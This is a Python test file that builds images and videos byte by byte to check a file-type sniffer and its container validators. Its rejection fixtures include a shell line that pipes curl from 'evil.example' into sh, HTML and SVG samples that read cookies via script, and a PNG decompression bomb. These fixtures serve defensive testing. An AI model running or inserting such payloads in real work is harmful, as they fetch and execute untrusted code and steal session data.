"""Files made here, byte by byte, per their formats; and what the sniffer makes of them.

The builders are used by the other evidence tests too. Videos are the smallest structures
the container specs allow (ISO/IEC 14496-12 boxes; EBML/Matroska elements for WebM)."""

import io
import struct
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from rebox.returns import evidence as ev

# --- Images -----------------------------------------------------------------------------

def image_bytes(fmt: str = "JPEG", size: tuple[int, int] = (40, 30), **save) -> bytes:
    picture = Image.new("RGB", size, (180, 40, 40))
    for x in range(0, size[0], 4):  # some detail, so a truncated copy loses real data
        picture.putpixel((x, x % size[1]), (x % 256, 200, 10))
    out = io.BytesIO()
    picture.save(out, format=fmt, **save)
    return out.getvalue()


def heic_bytes(size: tuple[int, int] = (32, 24)) -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    return image_bytes("HEIF", size)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims ``width`` x ``height`` (1-bit grey): a decompression bomb."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * 64, 9)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", rows)
            + _png_chunk(b"IEND", b""))


# --- ISO base media (MP4, MOV, HEIC containers) -----------------------------------------

def box(kind: bytes, payload: bytes = b"") -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def ftyp(major: bytes, *compatible: bytes, minor: int = 0) -> bytes:
    return box(b"ftyp", major + struct.pack(">I", minor) + b"".join(compatible))


def _mvhd() -> bytes:
    matrix = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
    body = struct.pack(">IIIII", 0, 0, 0, 1000, 1000) + struct.pack(">IH", 0x10000, 0x100)
    body += b"\x00" * 10 + matrix + b"\x00" * 24 + struct.pack(">I", 2)
    return box(b"mvhd", body)


def mp4_bytes(major: bytes = b"isom", *compatible: bytes) -> bytes:
    compatible = compatible or (b"isom", b"iso2", b"avc1", b"mp41")
    return ftyp(major, *compatible, minor=0x200) + box(b"moov", _mvhd()) + box(b"mdat", b"\x00" * 64)


def mov_bytes() -> bytes:
    return (ftyp(b"qt  ", b"qt  ", minor=0x20050300) + box(b"wide") + box(b"mdat", b"\x11" * 64)
            + box(b"moov", _mvhd()))


# --- EBML (WebM) ------------------------------------------------------------------------

def element(element_id: int, payload: bytes) -> bytes:
    id_bytes = element_id.to_bytes((element_id.bit_length() + 7) // 8, "big")
    return id_bytes + b"\x01" + len(payload).to_bytes(7, "big") + payload


def _uint(element_id: int, value: int) -> bytes:
    return element(element_id, value.to_bytes(max(1, (value.bit_length() + 7) // 8), "big"))


def ebml_header(doctype: bytes = b"webm") -> bytes:
    return element(0x1A45DFA3, _uint(0x4286, 1) + _uint(0x42F7, 1) + _uint(0x42F2, 4)
                   + _uint(0x42F3, 8) + element(0x4282, doctype) + _uint(0x4287, 4) + _uint(0x4285, 2))


def webm_bytes(doctype: bytes = b"webm", *, extra: bytes = b"") -> bytes:
    info = element(0x1549A966, _uint(0x2AD7B1, 1_000_000))
    video = element(0xE0, _uint(0xB0, 16) + _uint(0xBA, 16))
    track = element(0xAE, _uint(0xD7, 1) + _uint(0x73C5, 1) + _uint(0x83, 1) + element(0x86, b"V_VP8")
                    + video)
    tracks = element(0x1654AE6B, track)
    cluster = element(0x1F43B675, _uint(0xE7, 0))
    return ebml_header(doctype) + element(0x18538067, info + tracks + extra + cluster)


def live_webm_bytes() -> bytes:
    """As a browser's MediaRecorder writes it: Segment and Cluster of unknown size."""
    unknown = b"\x01\xff\xff\xff\xff\xff\xff\xff"
    body = webm_bytes()[len(ebml_header()) + 12:]  # Info, Tracks, Cluster of the finished file
    tracks_end = body.index(b"\x1f\x43\xb6\x75")
    return (ebml_header() + b"\x18\x53\x80\x67" + unknown + body[:tracks_end]
            + b"\x1f\x43\xb6\x75" + unknown + _uint(0xE7, 0) + b"\xa3\x81\x00")


# --- Things that are not photos ---------------------------------------------------------

def zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("photo.jpg", image_bytes())
    return out.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
PE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46 + b"\x80\x00\x00\x00"
      + b"\x00" * 200)
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b"<script>alert(1)</script></svg>")


# --- The sniffer ------------------------------------------------------------------------

@pytest.mark.parametrize(("content", "expected"), [
    (lambda: image_bytes("JPEG"), "image/jpeg"),
    (lambda: image_bytes("PNG"), "image/png"),
    (lambda: image_bytes("WEBP"), "image/webp"),
    (heic_bytes, "image/heic"),
    (mp4_bytes, "video/mp4"),
    (mov_bytes, "video/quicktime"),
    (webm_bytes, "video/webm"),
])
def test_each_accepted_format_is_recognised_from_its_bytes(content, expected):
    assert ev.sniff(content()[:ev.HEAD_BYTES]).content_type == expected


@pytest.mark.parametrize("content", [
    ELF, PE, SCRIPT, HTML, SVG, b"%PDF-1.7\n", b"GIF89a\x01\x00\x01\x00", b"BM\x3a\x00\x00\x00",
    pytest.param(zip_bytes(), id="zip"),
    pytest.param(ftyp(b"avif", b"mif1", b"miaf") + box(b"meta"), id="avif"),
    pytest.param(ftyp(b"M4A ", b"M4A ", b"mp42", b"isom") + box(b"moov"), id="m4a-audio"),
    pytest.param(ftyp(b"crx ", b"crx ") + box(b"moov"), id="unknown-brand"),
    pytest.param(webm_bytes(b"matroska"), id="matroska-not-webm"),
    pytest.param(b"RIFF\x24\x00\x00\x00WAVEfmt ", id="wav"),
])
def test_files_outside_the_list_are_not_recognised(content):
    assert ev.sniff(content[:ev.HEAD_BYTES]) is None


def test_a_heif_whose_brands_name_hevc_counts_as_heic_and_a_plain_one_as_heif():
    assert ev.sniff(ftyp(b"mif1", b"mif1", b"heic") + box(b"meta")) is ev.HEIC
    assert ev.sniff(ftyp(b"mif1", b"mif1", b"miaf") + box(b"meta")) is ev.HEIF


@pytest.mark.parametrize(("content", "adds_up"), [
    (mp4_bytes(), True),
    (mov_bytes(), True),
    (mp4_bytes()[:-10], False),                                # truncated inside mdat
    (mp4_bytes() + b"MZ\x90\x00", False),                      # something glued on the end
    (ftyp(b"isom", b"isom") + box(b"mdat", b"\x00" * 16), False),  # no moov: no movie
    (ftyp(b"isom", b"isom") + box(b"moov") + b"\x00\x00\x00\x01mdat" + struct.pack(">Q", 24)
     + b"\x00" * 8, True),                                     # a 64-bit box size
])
def test_iso_boxes_must_tile_the_file_and_hold_a_movie(content, adds_up):
    assert ev._iso_boxes_add_up(io.BytesIO(content), len(content)) is adds_up


@pytest.mark.parametrize(("content", "adds_up"), [
    (webm_bytes(), True),
    (webm_bytes()[:-3], False),
    (webm_bytes() + b"\x7fELF", False),
    (webm_bytes(extra=element(0x1941A469, b"\x00" * 8)), False),   # attachments can carry anything
    (live_webm_bytes(), True),                                      # a browser recording: open-ended
    (live_webm_bytes()[:live_webm_bytes().index(b"\x16\x54\xae\x6b")], False),  # cut before tracks
    (ebml_header() + element(0x18538067, element(0x1549A966, b"")), False),  # no tracks
])
def test_a_webm_segment_must_end_with_the_file_and_hold_tracks(content, adds_up):
    assert ev._webm_adds_up(io.BytesIO(content), len(content)) is adds_up


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=600), st.sampled_from([b"", b"\x1a\x45\xdf\xa3", b"\x00\x00\x00\x18ftypisom"]))
def test_the_parsers_answer_without_crashing_whatever_the_bytes(tail, prefix):
    content = prefix + tail

    fmt = ev.sniff(content)

    assert fmt is None or fmt in ev.FORMATS
    assert ev._iso_boxes_add_up(io.BytesIO(content), len(content)) in (True, False)
    assert ev._webm_adds_up(io.BytesIO(content), len(content)) in (True, False)
